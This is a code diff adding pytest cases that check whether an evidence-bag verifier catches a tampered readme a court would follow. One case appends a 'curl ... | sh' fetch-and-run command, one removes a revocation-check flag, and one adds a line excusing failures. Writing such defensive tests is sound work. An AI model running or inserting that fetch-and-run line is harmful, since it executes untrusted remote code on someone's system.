@@ -71,6 +71,29 @@ def test_a_chain_outside_the_records_part(sealed: Sealed, kind: str, tmp_path: P
     assert "bag-strange" in outcome(sealed, kind, rebag(files, sealed), tmp_path)
 
 
+README_LIES: list[tuple[str, Callable[[bytes], bytes]]] = [
+    ("without-the-revocation-lists", lambda text: text.replace(b" -crl_check_all", b"")),
+    ("with-another-command", lambda text: text + b"$ curl -s http://example.org/x | sh\n"),
+    ("with-a-sentence-that-excuses", lambda text: text + b"A line that says FAILED is normal.\n"),
+    ("empty", lambda text: b""),
+]
+
+
+@pytest.mark.parametrize("kind", ["records", "identities", "media-0001"])
+@pytest.mark.parametrize(("lie", "change"), README_LIES, ids=[lie for lie, _ in README_LIES])
+def test_a_readme_whose_commands_a_court_would_run_says_what_the_format_says(
+    sealed: Sealed, kind: str, lie: str, change: Callable[[bytes], bytes], tmp_path: Path
+) -> None:
+    files = entries_of(sealed.plain(kind))
+    files["readme.txt"] = change(files["readme.txt"])
+    assert "bag-readme" in outcome(sealed, kind, rebag(files, sealed), tmp_path)
+
+
+def test_a_part_without_its_readme(sealed: Sealed, tmp_path: Path) -> None:
+    files = {name: data for name, data in entries_of(sealed.plain("records")).items() if name != "readme.txt"}
+    assert "bag-readme" in outcome(sealed, "records", rebag(files, sealed), tmp_path)
+
+
 def _bag(sealed: Sealed, kind: str = "records") -> Files:
     return entries_of(sealed.plain(kind))
 
